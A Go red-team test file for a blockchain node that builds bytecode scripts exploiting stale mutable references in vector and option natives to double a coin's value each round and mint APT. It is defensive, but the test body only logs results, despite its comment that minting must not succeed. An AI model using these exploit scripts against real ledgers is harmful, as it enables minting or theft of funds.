package redteam

import (
	"testing"

	"github.com/ledgernode/ledgernode/ledgerapi/bytecode"
)

// V1: minting APT through stale references. A container native that
// replaces the whole container behind a &mut leaves references taken into
// the old one usable: extract_all through such a reference takes the coin's
// value a second time. Each round doubles the coin.

// staleAttack is one way of making a reference stale: the container the
// coin sits in, how a reference into it is taken, and the native call that
// must not leave that reference pointing at a copy.
type staleAttack struct {
	name string
	// box is the container's type.
	box func(f *fw) tok
	// build turns the coin on the stack into the container; destroy
	// consumes an empty container; take leaves the last coin of a
	// container holding only it.
	build, destroy, take func(f *fw) []bytecode.Instruction
	// pre prepares the container before the reference is taken.
	pre func(f *fw) []bytecode.Instruction
	// borrow leaves &mut to the coin inside the container.
	borrow func(f *fw) []bytecode.Instruction
	// op is the native call under attack; when extra, it leaves a coin.
	op    func(f *fw) []bytecode.Instruction
	extra bool
	// drain leaves one coin of the container; it runs drains times.
	drain  func(f *fw) []bytecode.Instruction
	drains int
}

// Locals of the script: 0 &signer, 1 the container, 2 the reference, 3 the
// accumulated coin, 4 a drained coin, 5 the op's coin.
const (
	locBox, locRef, locAcc, locTmp, locExtra = 1, 2, 3, 4, 5
)

func vectorAttack(name string, pre, op func(f *fw) []bytecode.Instruction, extra bool, drains int) staleAttack {
	sig := func(f *fw) uint64 { return uint64(f.b.Signature(f.coin)) }
	return staleAttack{name: name, pre: pre, op: op, extra: extra, drains: drains,
		box:     func(f *fw) tok { return bytecode.Vector(f.coin) },
		build:   func(f *fw) []bytecode.Instruction { return []bytecode.Instruction{in(bytecode.OpVecPack, sig(f), 1)} },
		destroy: func(f *fw) []bytecode.Instruction { return []bytecode.Instruction{in(bytecode.OpVecUnpack, sig(f), 0)} },
		take:    func(f *fw) []bytecode.Instruction { return []bytecode.Instruction{in(bytecode.OpVecUnpack, sig(f), 1)} },
		borrow: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{in(bytecode.OpMutBorrowLoc, locBox), in(bytecode.OpLdU64, 0), in(bytecode.OpVecMutBorrow, sig(f))}
		},
		drain: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{in(bytecode.OpMutBorrowLoc, locBox), in(bytecode.OpVecPopBack, sig(f))}
		},
	}
}

func optionAttack(name string, op func(f *fw) []bytecode.Instruction, drains int) staleAttack {
	o := func(f *fw) tok { return f.optionOf(tp0) }
	return staleAttack{name: name, op: op, extra: true, drains: drains,
		box: func(f *fw) tok { return f.optionOf(f.coin) },
		build: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{f.opt("some", f.coin, []tok{tp0}, []tok{o(f)})}
		},
		destroy: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{f.opt("destroy_none", f.coin, []tok{o(f)}, nil)}
		},
		take: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{f.opt("destroy_some", f.coin, []tok{o(f)}, []tok{tp0})}
		},
		borrow: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{in(bytecode.OpMutBorrowLoc, locBox), f.opt("borrow_mut", f.coin, []tok{bytecode.MutRef(o(f))}, []tok{bytecode.MutRef(tp0)})}
		},
		drain: func(f *fw) []bytecode.Instruction {
			return []bytecode.Instruction{in(bytecode.OpMutBorrowLoc, locBox), f.opt("extract", f.coin, []tok{bytecode.MutRef(o(f))}, []tok{tp0})}
		},
	}
}

func staleAttacks() []staleAttack {
	mutVec := bytecode.MutRef(vecT0)
	box := []bytecode.Instruction{in(bytecode.OpMutBorrowLoc, locBox)}
	return []staleAttack{
		vectorAttack("vector::reverse", nil, func(f *fw) []bytecode.Instruction {
			return append(box, f.vec("reverse", f.coin, []tok{mutVec}, nil))
		}, false, 1),
		vectorAttack("vector::insert", nil, func(f *fw) []bytecode.Instruction {
			return append(box, in(bytecode.OpLdU64, 1), f.zero(), f.vec("insert", f.coin, []tok{mutVec, u64T, tp0}, nil))
		}, false, 2),
		vectorAttack("vector::append", nil, func(f *fw) []bytecode.Instruction {
			return append(box, in(bytecode.OpVecPack, uint64(f.b.Signature(f.coin)), 0), f.vec("append", f.coin, []tok{mutVec, vecT0}, nil))
		}, false, 1),
		vectorAttack("vector::remove", func(f *fw) []bytecode.Instruction {
			return append(box, f.zero(), in(bytecode.OpVecPushBack, uint64(f.b.Signature(f.coin))))
		}, func(f *fw) []bytecode.Instruction {
			return append(box, in(bytecode.OpLdU64, 1), f.vec("remove", f.coin, []tok{mutVec, u64T}, []tok{tp0}))
		}, true, 1),
		optionAttack("option::extract", func(f *fw) []bytecode.Instruction {
			return append(box, f.opt("extract", f.coin, []tok{bytecode.MutRef(f.optionOf(tp0))}, []tok{tp0}))
		}, 0),
		optionAttack("option::swap", func(f *fw) []bytecode.Instruction {
			return append(box, f.zero(), f.opt("swap", f.coin, []tok{bytecode.MutRef(f.optionOf(tp0)), tp0}, []tok{tp0}))
		}, 1),
	}
}

// staleScript withdraws amount, then for each round takes a reference to
// the coin in its container, runs the native under attack, extracts all
// through the reference, merges every coin it holds and puts the sum back;
// at the end it deposits the coin to the sender.
func staleScript(a staleAttack, amount uint64, rounds int) *bytecode.ScriptBuilder {
	b := bytecode.NewScriptBuilder()
	f := newFW(b)
	code := []bytecode.Instruction{in(bytecode.OpCopyLoc, 0), in(bytecode.OpLdU64, amount), f.withdraw()}
	code = append(code, a.build(f)...)
	code = append(code, in(bytecode.OpStLoc, locBox))
	mergeFrom := func(local uint8) []bytecode.Instruction {
		return []bytecode.Instruction{in(bytecode.OpMutBorrowLoc, locAcc), in(bytecode.OpMoveLoc, uint64(local)), f.merge()}
	}
	for range rounds {
		if a.pre != nil {
			code = append(code, a.pre(f)...)
		}
		code = append(code, a.borrow(f)...)
		code = append(code, in(bytecode.OpStLoc, locRef))
		code = append(code, a.op(f)...)
		if a.extra {
			code = append(code, in(bytecode.OpStLoc, locExtra))
		}
		code = append(code, in(bytecode.OpMoveLoc, locRef), f.extractAll(), in(bytecode.OpStLoc, locAcc))
		if a.extra {
			code = append(code, mergeFrom(locExtra)...)
		}
		for range a.drains {
			code = append(code, a.drain(f)...)
			code = append(code, in(bytecode.OpStLoc, locTmp))
			code = append(code, mergeFrom(locTmp)...)
		}
		code = append(code, in(bytecode.OpMoveLoc, locBox))
		code = append(code, a.destroy(f)...)
		code = append(code, in(bytecode.OpMoveLoc, locAcc))
		code = append(code, a.build(f)...)
		code = append(code, in(bytecode.OpStLoc, locBox))
	}
	code = append(code, in(bytecode.OpMoveLoc, 0), f.addressOf(), in(bytecode.OpMoveLoc, locBox))
	code = append(code, a.take(f)...)
	code = append(code, f.deposit(), in(bytecode.OpRet))
	b.Main(bytecode.Fn{Params: []tok{sigT}, Locals: []tok{a.box(f), bytecode.MutRef(f.coin), f.coin, f.coin, f.coin}, Code: code})
	return b
}

// TestV1StaleReferenceMint runs the stale-reference script through every
// container native that replaced its container: 1 APT, doubled 8 times,
// must not come back as 256 APT. Refusing the script (a reference safety
// error) or running it without minting are both safe.
func TestV1StaleReferenceMint(t *testing.T) {
	for _, a := range staleAttacks() {
		t.Run(a.name, func(t *testing.T) {
			n := startNode(t)
			o := n.run(n.attacker, scriptPayload(t, staleScript(a, 100_000_000, 8)), 100_000)
			n.t.Logf("%s: %s", a.name, o)
		})
	}
}
